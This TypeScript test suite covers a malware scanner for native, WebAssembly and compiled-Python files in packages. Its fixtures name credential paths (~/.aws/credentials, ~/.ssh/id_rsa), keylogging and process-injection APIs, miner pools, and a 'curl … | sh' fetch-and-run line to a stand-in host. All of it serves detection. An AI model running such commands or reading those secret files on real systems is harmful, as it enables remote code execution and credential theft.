import { describe, expect, it } from 'vitest'
import { elfOf } from '../../../../test/support/elf-writer.ts'
import { machOOf } from '../../../../test/support/mach-o-writer.ts'
import { pycOf } from '../../../../test/support/marshal-writer.ts'
import { peOf } from '../../../../test/support/pe-writer.ts'
import { seededRandom } from '../../../../test/support/random.ts'
import { wasmOf } from '../../../../test/support/wasm-writer.ts'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { memorySource } from '../../../formats/zip-source.ts'
import type { Behaviour } from '../behaviour.ts'
import { type BinaryInspection, type BinaryOptions, inspectBinary } from './inspect-binary.ts'
import { compareWithSource, namesInSource } from './source-difference.ts'

type Kind = 'native' | 'wasm' | 'bytecode'

const inspect = (
  bytes: Uint8Array,
  kind: Kind = 'native',
  path = 'x/_native.so',
  options: Partial<BinaryOptions> = {},
): Promise<BinaryInspection> =>
  inspectBinary(memorySource(bytes), kind, { path, role: 'library' }, { limits: DEFAULT_LIMITS, ...options })

const told = ({ behaviours }: BinaryInspection): readonly string[] =>
  behaviours.map(({ kind, subject }) => `${kind} ${subject}`)

const random = (length: number): Buffer => {
  const next = seededRandom(5)
  return Buffer.from(Array.from({ length }, () => next.integer(256)))
}

const strings = (...texts: readonly string[]): Buffer => Buffer.from(texts.map((text) => `${text}\0`).join(''))
const wide = (text: string): Buffer => Buffer.from(`${text}\0`, 'utf16le')

const HONEST = ['malloc', 'memcpy', 'PyModule_Create2', 'getenv', 'open', 'pthread_create', 'clock_gettime']

describe('native files', () => {
  it('says nothing of an honest extension', async () => {
    const data = strings(
      'array is too big',
      'https://docs.python.org/3/c-api',
      'numpy/core/src',
      'PASSWORD',
      'http://www.years',
    )
    const elf = await inspect(elfOf({ needed: ['libc.so.6'], imports: HONEST, exports: ['PyInit__native'], data }))
    expect(elf).toEqual({ behaviours: [], looked: 'whole' })
    const pe = peOf({
      imports: { 'KERNEL32.dll': ['GetProcAddress', 'LoadLibraryA', 'IsDebuggerPresent', 'HeapAlloc', 'a', 'b', 'c'] },
      data,
    })
    expect(await inspect(pe, 'native', 'x/_native.pyd')).toEqual({ behaviours: [], looked: 'whole' })
  })

  it.each([
    ['connect', 'network ?'],
    ['getaddrinfo', 'network ?'],
    ['res_query', 'dns ?'],
    ['execve', 'execute ?'],
    ['system', 'execute ?'],
    ['ptrace', 'hook-runtime other processes'],
    ['PyRun_SimpleStringFlags', 'evaluate Python'],
    ['dlopen', 'dynamic-import native'],
    ['gethostname', 'host-facts host'],
  ])('tells that Linux is asked for %s', async (name, behaviour) => {
    expect(told(await inspect(elfOf({ imports: [...HONEST, name] })))).toEqual([behaviour])
  })

  it.each([
    ['WINHTTP.dll', 'WinHttpSendRequest', 'network ?'],
    ['urlmon.dll', 'URLDownloadToFileA', 'download ?'],
    ['SHELL32.dll', 'ShellExecuteExW', 'execute ?'],
    ['USER32.dll', 'GetAsyncKeyState', 'spy keyboard'],
    ['USER32.dll', 'SetWindowsHookExW', 'spy keyboard'],
    ['KERNEL32.dll', 'WriteProcessMemory', 'hook-runtime other processes'],
    ['CRYPT32.dll', 'CryptUnprotectData', 'read-secret-file saved logins'],
    ['USER32.dll', 'GetClipboardData', 'clipboard clipboard'],
  ])('tells that Windows is asked for %s %s', async (library, name, behaviour) => {
    expect(told(await inspect(peOf({ imports: { [library]: [name] } })))).toEqual([behaviour])
  })

  it.each([
    ['CGEventTapCreate', 'spy keyboard'],
    ['posix_spawn', 'execute ?'],
    ['OBJC_CLASS_$_NSURLSession', 'network ?'],
    ['task_for_pid', 'hook-runtime other processes'],
  ])('tells that macOS is asked for %s', async (name, behaviour) => {
    expect(told(await inspect(machOOf({ libraries: ['/usr/lib/libSystem.B.dylib'], imports: [[name, 1]] })))).toEqual([
      behaviour,
    ])
  })

  it.each([
    ['~/.aws/credentials', 'read-secret-file .aws'],
    ['%s/.ssh/id_rsa', 'read-secret-file .ssh'],
    ['text before.npmrctext', undefined],
    ['glued text ~/.ssh/id_ed25519 glued text', 'read-secret-file .ssh'],
    ['/Google/Chrome/User Data/Default', 'browser-store browser'],
    ['http://169.254.169.254/latest/meta-data', 'cloud-metadata 169.254.169.254'],
    ['stratum+tcp://pool.example:3333', 'mine pool'],
    ['Library/LaunchAgents/com.x.plist', 'persist launch agent'],
    ['http://203.0.113.7/x', 'network 203.0.113.7'],
    ['https://discord.com/api/webhooks/1/a', 'network discord.com'],
    ['https://api.ipify.org/', 'host-facts api.ipify.org'],
    ['AWS_SECRET_ACCESS_KEY', 'read-environment AWS_SECRET_ACCESS_KEY'],
    ['curl -s https://collect.example/x | sh', 'download collect.example'],
    ['https://collect.example/only-a-string', undefined],
    ['SECRET_TOKEN', undefined],
  ])('looks at the string %s', async (text, behaviour) => {
    const found = told(await inspect(elfOf({ imports: HONEST, data: strings(text) })))
    if (behaviour === undefined) expect(found).toEqual([])
    else expect(found).toContain(behaviour)
  })

  it('tells hosts of a file that can talk to a network', async () => {
    const file = elfOf({
      imports: ['connect'],
      data: strings('https://collect.example/x', 'http://www.w3.org/2000/svg'),
    })
    expect(told(await inspect(file))).toEqual(['network ?', 'network collect.example'])
  })

  it('reads texts of two bytes for a character in programs of Windows, at odd places too', async () => {
    const data = Buffer.concat([Buffer.from([1]), wide('Software\\Microsoft\\Windows\\CurrentVersion\\Run')])
    expect(told(await inspect(peOf({ data })))).toContain('persist Run key')
  })

  it('finds functions that Windows is asked for by name while the program runs', async () => {
    const file = peOf({
      imports: { 'KERNEL32.dll': ['LoadLibraryA', 'GetProcAddress'] },
      data: strings('WriteProcessMemory', 'CreateRemoteThread'),
    })
    expect(told(await inspect(file))).toEqual(['obfuscation hidden-imports', 'hook-runtime other processes'])
  })

  it.each([
    ['a section of UPX', peOf({ codeName: 'UPX1' })],
    ['code that is compressed', elfOf({ imports: HONEST, code: random(40_000) })],
  ])('tells packing: %s', async (_, file) => {
    const inspection = await inspect(file)
    expect(told(inspection)).toContain('obfuscation packed')
    expect(inspection.looked).toBe('part')
  })

  it('tells code that can be written, and static programs without names', async () => {
    expect(told(await inspect(elfOf({ imports: HONEST, isWritableCode: true })))).toEqual(['obfuscation writable-code'])
    expect(told(await inspect(elfOf({ isStatic: true, hasSections: false })))).toEqual([
      'obfuscation static-without-symbols',
    ])
  })

  it.each([
    ['PyInstaller', 'MEI\x0c\x0b\x0a\x0b\x0e'],
    ['Bun', '\n---- Bun! ----\n'],
    ['Deno', 'd3n0l4nd'],
    ['Node.js (nexe)', '<nexe~~sentinel>'],
  ])('knows what %s builds', async (tool, mark) => {
    const overlay = Buffer.concat([random(5000), Buffer.from(mark, 'latin1'), Buffer.alloc(80)])
    const inspection = await inspect(elfOf({ interpreter: '/lib/ld.so', imports: HONEST, overlay }))
    expect(told(inspection)).toEqual([`unread ${tool} bundle`])
    expect(inspection.looked).toBe('part')
  })

  it('tells data behind the end, and a library with the name of a picture', async () => {
    expect(told(await inspect(elfOf({ imports: HONEST, overlay: random(5000) })))).toEqual(['unread appended data'])
    expect(told(await inspect(elfOf({ imports: HONEST }), 'native', 'assets/logo.png'))).toEqual([
      'obfuscation disguised',
    ])
  })

  it('looks at no more strings than it may, and says so', async () => {
    const file = elfOf({ imports: HONEST, data: Buffer.alloc(100_000, 0x20) })
    expect(await inspect(file, 'native', 'x.so', { stringBytes: 1000 })).toMatchObject({ looked: 'part', message: expect.stringContaining('strings') }) // prettier-ignore
  })

  it('says that nothing is known of what it cannot read', async () => {
    const inspection = await inspect(Buffer.from('INPUT(-lfoo)'))
    expect(told(inspection)).toEqual(['unread native'])
    expect(inspection.looked).toBe('not')
  })

  it('is linear on strings of the nastiest kind', async () => {
    for (const piece of ['http://', 'a.', '.ssh/', 'curl ', '://', 'xmri', '/etc/', 'A_', ' \t']) {
      const start = performance.now()
      await inspect(elfOf({ imports: ['connect'], data: Buffer.from(piece.repeat(2_000_000 / piece.length)) }))
      expect(performance.now() - start, piece).toBeLessThan(5000)
    }
  }, 60_000)
})

describe('WebAssembly', () => {
  it.each([
    ['wasi_snapshot_preview1', 'fd_write', []],
    ['wasi_snapshot_preview1', 'sock_connect', ['network ?']],
    ['wasix_32v1', 'proc_spawn', ['execute ?']],
    ['env', 'emscripten_run_script', ['evaluate ?']],
    ['./x_bg.js', '__wbg_fetch_0123456789abcdef', ['network ?']],
  ])('tells %s.%s', async (module, name, behaviours) => {
    expect(told(await inspect(wasmOf({ imports: [[module, name]] }), 'wasm', 'x.wasm'))).toEqual(behaviours)
  })

  it('looks at data and custom sections', async () => {
    const module = wasmOf({ data: 'open ~/.aws/credentials', custom: { x: 'stratum+tcp://pool.example' } })
    expect(told(await inspect(module, 'wasm', 'x.wasm'))).toEqual(['read-secret-file .aws', 'mine pool'])
  })
})

describe('compiled Python', () => {
  const PYC = pycOf('3.11', { name: '<module>', names: ['os', 'send_all'], constants: ['~/.npmrc', 'x'] })
  const pyc = (bytes = PYC): Promise<BinaryInspection> => inspect(bytes, 'bytecode', 'x/a.pyc')
  const compared = async (source: string | undefined, bytes = PYC): Promise<readonly Behaviour[]> => {
    const { compiled } = await pyc(bytes)
    const names = source === undefined ? 'absent' : namesInSource(source)
    return compiled === undefined ? [] : compareWithSource(compiled, names, { path: 'x/a.pyc', role: 'library' })
  }

  it('tells secret places among its constants, when they are read', async () => {
    expect((await pyc()).behaviours).toEqual([
      {
        kind: 'read-secret-file',
        subject: '.npmrc',
        place: { path: 'x/a.pyc', line: 1 },
        when: 'import',
        inputs: [],
        evidence: '"~/.npmrc"',
      },
    ])
  })

  it('compares it with its source', async () => {
    expect(await compared(undefined)).toMatchObject([{ kind: 'obfuscation', subject: 'compiled-without-source' }])
    expect(await compared('import os')).toMatchObject([{ kind: 'obfuscation', subject: 'compiled-differs' }])
    expect(await compared('import os\ndef send_all(): ...')).toEqual([])
  })

  it('says that Python does not look at the source of an unchecked hash', async () => {
    const unchecked = pycOf('3.11', { name: '<module>', names: ['send_all'] }, 1)
    const [behaviour] = await compared('', unchecked)
    expect(behaviour?.evidence).toContain('without a look at the source')
  })

  it('says that nothing is known of what it cannot read', async () => {
    expect(await pyc(Buffer.from('no compiled file'))).toMatchObject({
      looked: 'not',
      behaviours: [{ kind: 'unread' }],
    })
  })
})
